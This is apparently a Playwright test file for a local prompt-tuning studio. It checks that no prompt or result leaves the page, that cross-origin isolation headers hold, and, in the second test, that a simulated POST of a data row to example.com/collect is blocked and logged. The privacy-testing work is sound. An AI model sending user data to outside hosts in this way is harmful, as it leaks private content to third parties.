import { expect, test } from './fixtures';

test.use({ serviceWorkers: 'allow' });

test('lets no row, prompt or result leave the page, and has a policy that says so', async ({ studio, watch }) => {
  const { page, playground, library } = studio;
  const sent: string[] = [];
  // requests of the page, its two workers and their threads, and the service worker
  page.context().on('request', (request) => {
    const who = request.serviceWorker() ? 'service worker' : 'page';
    if (/^https?:/.test(request.url()))
      sent.push(`${who}: ${request.method()} ${request.url()} ${request.postData() ?? ''}`);
  });
  await studio.trained();
  await studio.go('Prompts');
  await studio.prompts.editor.fill('The secret word is marmalade. {Nachricht}');
  await studio.prompts.tryIt.click();
  await expect(studio.heading).toContainText('Your prompt gets');
  await studio.go('Compare');
  await studio.compare.run.click();
  await studio.compare.verdict();
  await studio.go('Playground');
  await playground.ask('A sentence about marmalade.', 'tuned prompt');
  await studio.go('Library');
  await page.getByRole('button', { name: 'Export', exact: true }).first().click();
  await library.download();

  for (const known of [/^page: .+engine\.worker/, /^page: .+\.wasm/, /^page: .+onnx/, /^service worker: .+index\.html/])
    expect(sent.filter((request) => known.test(request)).length, String(known)).toBeGreaterThan(0);
  for (const request of sent) {
    expect(request).toMatch(/^[\w ]+: GET http:\/\/localhost:\d+\//);
    expect(decodeURIComponent(request)).not.toMatch(/marmalade|wardrobe|complaint|Nachricht|awkward/i);
  }
  expect(watch.foreign).toEqual([]);
  await page.getByRole('button', { name: '0 requests sent to other sites. Open the log' }).click();
  await expect(page.getByRole('dialog')).toContainText('no requests to other sites');
  // the address carries no text either
  expect(decodeURIComponent(page.url())).not.toMatch(/marmalade|complaint/);
});

test('stops and shows a request that something tries to make anyway', async ({ studio, watch }) => {
  const { page } = studio;
  watch.expected.push(/example\.com/);
  await studio.open();
  const refused = await page.evaluate(() =>
    fetch('https://example.com/collect', { method: 'POST', body: 'row' }).then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(refused).toBe('refused');
  await expect.poll(() => watch.violations.length).toBeGreaterThan(0);
  await page.getByRole('button', { name: /requests? sent to other sites/ }).click();
  await expect(page.getByRole('dialog')).toContainText('blocked by the page');
});

test('the isolation of a worker is sent with “not modified” too, without which WebKit does not start it again', async ({
  studio,
}) => {
  const { page } = studio;
  const worker = page.waitForRequest(/engine\.worker/);
  await studio.open();
  const url = (await worker).url();
  const { etag = '' } = (await page.request.get(url)).headers();
  const again = await page.request.get(url, { headers: { 'If-None-Match': etag } });
  expect(again.status()).toBe(304);
  expect(again.headers()).toMatchObject({
    'cross-origin-embedder-policy': 'require-corp',
    'cross-origin-resource-policy': 'same-origin',
  });
});
